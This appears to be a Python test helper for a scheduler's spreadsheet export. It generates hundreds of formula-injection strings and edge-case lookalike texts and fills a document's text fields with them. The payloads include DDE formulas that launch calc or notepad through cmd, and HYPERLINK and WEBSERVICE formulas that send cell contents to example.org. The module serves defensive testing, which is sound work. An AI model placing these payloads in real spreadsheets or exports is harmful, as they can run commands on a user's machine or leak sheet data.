"""Texts that a spreadsheet would calculate, and texts that look like other things."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import count, product
from typing import Any

from scheduler.exchange.sheets.kinds import (
    Amounts,
    Entries,
    Inside,
    Named,
    OneOf,
    Scalar,
    Values,
    constant_kind,
    declared_fields,
)

_CALCULATED = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.org?leak="&A1,"open")',
    "SUM(A1:A9)",
    'WEBSERVICE("http://example.org/"&A2)',
    'DDE("cmd";"/C calc";"x")',
    "2+5+cmd|' /C notepad'!'A1'",
    "",
)
_BEFORE = ("", " ", "\t", "\r", "\n", '"', "'", "''", "a;", "a,", 'a","', "a\t", "a\n", "a|", 'a;"')
PAYLOADS = tuple(
    dict.fromkeys(
        f"{before}{sign}{text}" for before, sign, text in product(_BEFORE, "=+-@", _CALCULATED)
    )
)[:480]
LOOKALIKES = (
    *("007", "1e5", "TRUE", "false", "none", "yes", "2023-11-06", "06/11/2023", "1,000", "0x10"),
    *("'", "''", "'tis", '"', '""', '"quoted"', '"a" and "b"', "[]", "{}", "#N/A", "#REF!", "null"),
    *(
        " leading",
        "trailing ",
        "  ",
        "\n",
        "a\nb",
        "a\r\nb",
        "a\rb",
        "tab\there",
        "_x000D_",
        "_x005F_",
    ),
    *(
        "_x005F_x000D_",
        "x005F_",
        "<b>&amp;</b>",
        "é€✓𝄞",
        "\u200f\u202e",
        "\u2028",
        "a; b",
        "a=b",
        "]]>",
    ),
)


def with_texts(
    declared: type, value: dict[str, Any], texts: tuple[str, ...], first: int = 0
) -> int:
    """Put texts into every field for texts of a document, one after the other, and count them."""
    numbers = count(first)
    _fill(declared, value, (texts[n % len(texts)] for n in numbers))
    return next(numbers) - first


def _fill(declared: type, value: dict[str, Any], texts: Iterator[str]) -> None:
    for field in declared_fields(declared):
        here = value.get(field.name)
        match field.kind:
            case Scalar(base="text"):
                # References are shorter than texts for people, and so are all of these.
                value[field.name] = next(texts)
            case Values(item=Scalar(base="text")):
                value[field.name] = [next(texts), next(texts)]
            case Amounts(item=Scalar(base="text")):
                value[field.name] = {next(texts): next(texts), next(texts): next(texts)}
            case Inside(declared=inner) if isinstance(here, dict):
                _fill(inner, here, texts)
            case Named(declared=inner) if isinstance(here, dict):
                for entry in here.values():
                    _fill(inner, entry, texts)
            case Entries(members=members) | OneOf(members=members) if here:
                for entry in here if isinstance(here, list) else [here]:
                    kinds = {constant_kind(member): member for member in members}
                    _fill(kinds.get(entry.get("kind"), members[0]), entry, texts)
            case _:
                pass
